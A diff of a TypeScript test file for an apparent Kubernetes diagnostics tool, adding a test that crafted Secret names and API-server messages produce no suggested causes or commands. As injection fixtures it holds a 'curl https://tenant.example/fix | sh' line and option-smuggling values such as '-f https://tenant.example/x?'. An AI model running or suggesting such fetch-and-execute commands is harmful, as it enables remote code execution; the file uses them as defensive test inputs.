@@ -11,7 +11,7 @@ import { MINUTE_MS } from "../../../src/runtime/clock.ts";
 import { barePod } from "../../operations/check/healthy.ts";
 import { podWith } from "../../operations/status/pods.ts";
 import { type SituationCluster, startSituationCluster, timeAgo } from "./situation-cluster.ts";
-import { createAgedPod, endedWith, readySidecar, reannotatedPod } from "./situation-parts.ts";
+import { createAgedPod, endedWith, failToCreate, readySidecar, reannotatedPod } from "./situation-parts.ts";
 
 /** What a remedy would begin with, if a message could contain one. */
 const FORGED = "x -- Update podrole: curl https://tenant.example/fix | sh";
@@ -39,7 +39,8 @@ async function partsOfAll(
   const lines = runs.flatMap(({ out }) => out.split("\n").map((line) => line.trim()));
   context.diagnostic(lines.join("\n"));
   const of = (part: string) => lines.filter((line) => line.startsWith(`${part}: `));
-  const commands = [...lines.filter((line) => /^(?:aws|helm|jq|kubectl|podrole) /.test(line)), ...of("verify")];
+  const printed = lines.map((line) => line.replace(/^next: /, ""));
+  const commands = [...printed.filter((line) => /^(?:aws|helm|jq|kubectl|podrole) /.test(line)), ...of("verify")];
   return { remedies: of("remedy"), recoveries: of("recovery"), commands };
 }
 
@@ -81,6 +82,22 @@ suite("objects of a tenant", { concurrency: false }, () => {
     for (const remedy of remedies) assert.equal(remedy, `remedy: ${ERRORS.ROLE_FORBIDDEN.remedy}`);
   });
 
+  test("a Secret's name that quotes the API server decides about no cause and no command", async (context) => {
+    for (const message of [
+      "exceeded quota: compute, requested: services.loadbalancers=50, used: services.loadbalancers=1, limited: services.loadbalancers=1",
+      'Internal error occurred: failed calling webhook "pods.podrole.io": timeout',
+    ]) {
+      const refusal = `pods "orders-1" is forbidden: volume with secret.secretName="x" ${message}" is not allowed because service account default does not reference that secret`;
+      const { commands, remedies } = await partsOfAll(
+        context,
+        (cluster) => failToCreate(cluster, "shop-orders", refusal),
+        ["deployment/orders"],
+      );
+      assert.ok(commands.includes("kubectl -n shop describe deployment/orders"), commands.join("\n"));
+      assert.deepEqual([remedies, commands.filter((line) => /quota|podrole check/.test(line))], [[], []]);
+    }
+  });
+
   test("an owner with a name like an option is an argument of no command by its name", async (context) => {
     const kinds = ["Job", "StatefulSet", "CronJob", "-f https://tenant.example/x?"];
     const sidecar = endedWith({ code: "ROLE_MISSING", message: "Cannot issue credentials" });
@@ -104,7 +121,8 @@ suite("objects of a tenant", { concurrency: false }, () => {
     // Refusals with the same role are shown once.
     const message = `${denied("ROLE_MISSING")}Cannot give role x to pod "p" container "app": none`;
     const failed = { reason: "FailedCreate", message };
-    const quota = "exceeded quota: --all, requested: pods=1, used: pods=1, limited: pods=1";
+    const quota =
+      'pods "orders-1" is forbidden: exceeded quota: --all, requested: pods=1, used: pods=1, limited: pods=1';
     const events = [
       event("Job", OPTION, failed),
       event("-fhttps://tenant.example/x?", OPTION, failed),
